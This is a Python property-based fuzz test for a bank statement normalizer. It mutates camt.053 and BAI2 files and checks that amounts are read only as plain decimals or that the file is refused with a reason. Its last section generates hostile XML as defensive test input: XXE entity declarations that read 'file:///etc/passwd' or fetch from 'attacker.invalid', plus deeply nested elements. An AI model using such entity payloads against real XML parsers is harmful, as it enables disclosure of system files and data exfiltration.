"""Bank statement files are bad input too: real camt.053 and BAI2 files (the contract copies and the demo file),
mutated at random, must normalize to bank transactions or fail as a case with a reason — never another exception
(which would fail the normalize step until the message reached the DLQ, with no case to work). Every amount that
gets through must be the file's own plain decimal: no exponent read as a number (``1e5`` → 100,000.00)."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledgerlink.config.loader import load_config_file
from ledgerlink.config.model import LedgerLinkConfig
from ledgerlink.connectors.sources import normalize_module
from ledgerlink.connectors.sources.bank.statements import StatementError, StatementLine, parse
from ledgerlink.connectors.sources.base import NormalizeContext
from ledgerlink.errors import NormalizationError

from tests.conftest import CONTRACTS, EVENTS, EXAMPLE_CONFIG
from tests.fuzz.conftest import EXAMPLES

SAMPLES: list[Path] = sorted([*(CONTRACTS / "bank" / "camt053").glob("*.xml"), *(CONTRACTS / "bank" / "bai2").glob("*.txt"),
                              *(EVENTS / "bank").glob("*.xml")])
# what a damaged or hand-edited statement holds: separators, tags, signs, numbers in other notations, other scripts
TOKENS = ["/", ",", "\n", "<", ">", "</Amt>", '<Amt Ccy="EUR">', "-", "+", "9" * 25, "0", "", "CRDT", "DBIT", "1e5",
          "NaN", "Infinity", "\u0668", ".", "..", "USD", "eur", "16,", "03,", "02,", "88,", "49,", "98,", "99,", " ",
          "<RvslInd>true</RvslInd>", "2026-13-45", "991231", "&amp;", "&#0;", '<?xml version="1.0" encoding="U."?>',
          "<Sts>BOOK</Sts>", "\ufeff", "\x00"]
PLAIN_DECIMAL = re.compile(r"-?(\d+(\.\d*)?|\.\d+)", re.ASCII)   # xs:decimal, signed by CdtDbtInd


@pytest.fixture(scope="module")
def config() -> LedgerLinkConfig:
    return load_config_file(EXAMPLE_CONFIG)


# where damage matters most: an amount's text (camt ``<Amt>``, a BAI2 16 record's amount field) and the XML
# declaration's encoding; elsewhere it mostly makes a file unreadable as a whole
SITES = {"amount": [re.compile(r"<Amt[^>]*>([^<]*)</Amt>"), re.compile(r"(?:^|\n|/)16,\d{3},([^,]*)")],
         "encoding": [re.compile(r'encoding="([^"]*)"')]}


@st.composite
def statements(draw: st.DrawFn) -> str:
    text = draw(st.sampled_from(SAMPLES)).read_text(encoding="utf-8")
    for _ in range(draw(st.integers(1, 2))):
        replacement = draw(st.sampled_from(TOKENS) | st.text(max_size=8))
        site = draw(st.sampled_from(["amount", "amount", "amount", "encoding", "anywhere", "anywhere"]))
        spans = [m.span(1) for pattern in SITES.get(site, []) for m in pattern.finditer(text)]
        if spans:
            start, end = draw(st.sampled_from(spans))
        else:
            start = draw(st.integers(0, len(text)))
            end = min(len(text), start + draw(st.integers(0, 24)))
        text = text[:start] + replacement + text[end:]
    return text


def test_mutated_statement_files_parse_or_are_refused_with_a_reason(config, record_property):
    outcomes: dict[str, int] = {}

    @settings(max_examples=EXAMPLES * 4, deadline=None, database=None, derandomize=True,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(text=statements())
    def property_(text: str) -> None:
        try:
            lines = parse(text)
        except StatementError:
            lines = None
        for line in lines or []:
            assert PLAIN_DECIMAL.fullmatch(line.amount), line.amount
        context = NormalizeContext(config=config, source_id="bank", correlation_id="fuzz", archive_key="raw/fuzz")
        try:
            normalize_module("bank").normalize({"content": text}, context)
        except NormalizationError as error:
            assert re.fullmatch(r"[a-z][a-z_]+", error.reason), error.reason
            outcomes[error.reason] = outcomes.get(error.reason, 0) + 1
            return
        assert lines is not None   # what the parser refused, normalize cannot have read
        outcomes["normalized"] = outcomes.get("normalized", 0) + 1

    property_()
    record_property("fuzz_cases", f"bank files: {sum(outcomes.values())} cases, outcomes {dict(sorted(outcomes.items()))}")
    assert outcomes.get("normalized") and outcomes.get("malformed_statement")


ENTRY_AMOUNT = re.compile(r"(<Ntry>.*?<Amt[^>]*>)([^<]*)(</Amt>)", re.DOTALL)
CAMT_WITH_ENTRIES = [path for path in SAMPLES if path.suffix == ".xml" and ENTRY_AMOUNT.search(path.read_text())]
AMOUNTS = ["1e5", "1E+2", "NaN", "Infinity", "-8.85", "+8.85", "8,85", "1 000.00", "8.85.1", "0x10", "\u0668", "\u00bd",
           "12", "0.5", ".5", "5.", "123456789012345678.12345"]


def _parse_counting(text: str, seen: dict[str, int]) -> list[StatementLine] | None:
    """The file's lines, or None when it is refused; counted either way."""
    try:
        lines = parse(text)
    except StatementError:
        seen["refused"] += 1
        return None
    seen["read"] += 1
    return lines


def _report(record_property: Any, name: str, seen: dict[str, int]) -> None:
    record_property("fuzz_cases", f"{name}: {sum(seen.values())} cases, {seen}")
    assert seen["read"] and seen["refused"]   # both outcomes were exercised


def test_an_entry_amount_is_read_only_as_written_or_the_file_is_refused(record_property):
    seen = {"read": 0, "refused": 0}

    @settings(max_examples=EXAMPLES * 2, deadline=None, database=None, derandomize=True)
    @given(path=st.sampled_from(CAMT_WITH_ENTRIES), amount=st.sampled_from(AMOUNTS) | st.text(max_size=12),
           declaration=st.sampled_from(["UTF-8", "utf-8", "U.", "UTF-16", "latin-1", "TF-8"]))
    def property_(path: Path, amount: str, declaration: str) -> None:
        text = ENTRY_AMOUNT.sub(lambda m: m.group(1) + amount.replace("<", "") + m.group(3), path.read_text(), count=1)
        text = text.replace('encoding="UTF-8"', f'encoding="{declaration}"', 1)
        lines = _parse_counting(text, seen)
        if lines is None:
            return
        assert PLAIN_DECIMAL.fullmatch(lines[0].amount.removeprefix("-")) and lines[0].amount.lstrip("-") == \
            amount.strip().replace("<", ""), (amount, lines[0].amount)

    property_()
    _report(record_property, "bank file amounts", seen)


BAI2_AMOUNT = re.compile(r"((?:^|\n|/)16,\d{3},)([^,]*)")
BAI2_WITH_DETAILS = [path for path in SAMPLES if path.suffix == ".txt" and BAI2_AMOUNT.search(path.read_text())]


def test_a_bai2_detail_amount_is_read_only_as_ascii_minor_units_or_the_file_is_refused(record_property):
    seen = {"read": 0, "refused": 0}

    @settings(max_examples=EXAMPLES * 2, deadline=None, database=None, derandomize=True)
    @given(path=st.sampled_from(BAI2_WITH_DETAILS),
           amount=st.sampled_from(["2500", "0", "\u0668\u0668", "\u00b2", "-2500", "25.00", "1e3", " 2500", ""])
           | st.text(max_size=8))
    def property_(path: Path, amount: str) -> None:
        text = BAI2_AMOUNT.sub(lambda m: m.group(1) + amount.replace(",", "").replace("/", ""), path.read_text(), count=1)
        lines = _parse_counting(text, seen)
        if lines is None:
            return
        written = amount.replace(",", "").replace("/", "").strip()
        assert written.isascii() and written.isdigit() and abs(lines[0].minor_units) == int(written), (amount, lines[0])

    property_()
    _report(record_property, "bank file BAI2 amounts", seen)


# ---- hostile statement files (issue 18, D95): DTDs in any encoding, other encodings, deep nesting ---------------
# A bank file arrives through S3 as bytes; the bank-file service decodes UTF-8 (else Latin-1) and the normalizer
# parses the text. Whatever the bytes, the file is refused with a reason — never expanded, never a crash.

ENTITY_MARK = "EXPANDED-BY-THE-PARSER"
CODECS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]


def _as_dropped(body: bytes) -> str:
    """The text the bank-file service hands the normalizer (service/bank_files.py)."""
    try:
        return body.decode("utf-8-sig")
    except UnicodeDecodeError:
        return body.decode("latin-1")


@st.composite
def hostile_statements(draw: st.DrawFn) -> tuple[bytes, str]:
    path = draw(st.sampled_from([p for p in SAMPLES if p.suffix == ".xml"]))
    text = path.read_text(encoding="utf-8")
    kind = draw(st.sampled_from(["dtd", "deep", "encoding"]))
    if kind in ("dtd", "encoding") or draw(st.booleans()):
        declared = draw(st.sampled_from(["UTF-8", "UTF-16", "UTF-32", "ISO-8859-1"]))
        text = text.replace('encoding="UTF-8"', f'encoding="{declared}"', 1)
    if kind == "dtd":
        subset = draw(st.sampled_from([f'<!ENTITY e "{ENTITY_MARK}">', '<!ENTITY e SYSTEM "file:///etc/passwd">',
                                       '<!ENTITY % p SYSTEM "http://attacker.invalid/p">%p;', ""]))
        head, sep, rest = text.partition("?>")
        text = head + sep + f"<!DOCTYPE Document [{subset}]>" + rest if sep else f"<!DOCTYPE Document [{subset}]>" + text
        text = text.replace("<Id>", "<Id>&e;", 1) if "ENTITY e" in subset else text
    elif kind == "deep":
        depth = draw(st.integers(65, 20_000))
        text = text.replace("<Ntry>", "<Ntry>" + "<x>" * depth + "</x>" * depth, 1)
    return text.encode(draw(st.sampled_from(CODECS))), kind


def test_hostile_statement_files_are_refused_with_a_reason_and_never_expanded(config, record_property):
    outcomes: dict[str, int] = {}

    @settings(max_examples=EXAMPLES, deadline=None, database=None, derandomize=True,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(dropped=hostile_statements())
    def property_(dropped: tuple[bytes, str]) -> None:
        body, kind = dropped
        text = _as_dropped(body)
        context = NormalizeContext(config=config, source_id="bank", correlation_id="fuzz", archive_key="raw/fuzz")
        try:
            normalize_module("bank").normalize({"content": text}, context)
        except NormalizationError as error:
            assert ENTITY_MARK not in json.dumps(error.to_dict())
            if error.reason == "malformed_statement":
                outcomes[kind] = outcomes.get(kind, 0) + 1
                return
            read = error.reason   # read, then refused for its content (an account no entity owns)
        else:
            read = "normalized"
        # only a statement that was never hostile in the first place can be read: UTF-8 bytes (with or without a
        # BOM) of a declaration naming a single-byte encoding of the same ASCII text (no DOCTYPE, no deep nesting)
        assert kind == "encoding", (kind, read, text[:200])
        outcomes[f"read ({read})"] = outcomes.get(f"read ({read})", 0) + 1

    property_()
    record_property("fuzz_cases", f"bank files, hostile: {sum(outcomes.values())} cases, refused by kind / read "
                                  f"{dict(sorted(outcomes.items()))}")
    assert outcomes.get("dtd") and outcomes.get("deep") and outcomes.get("encoding")
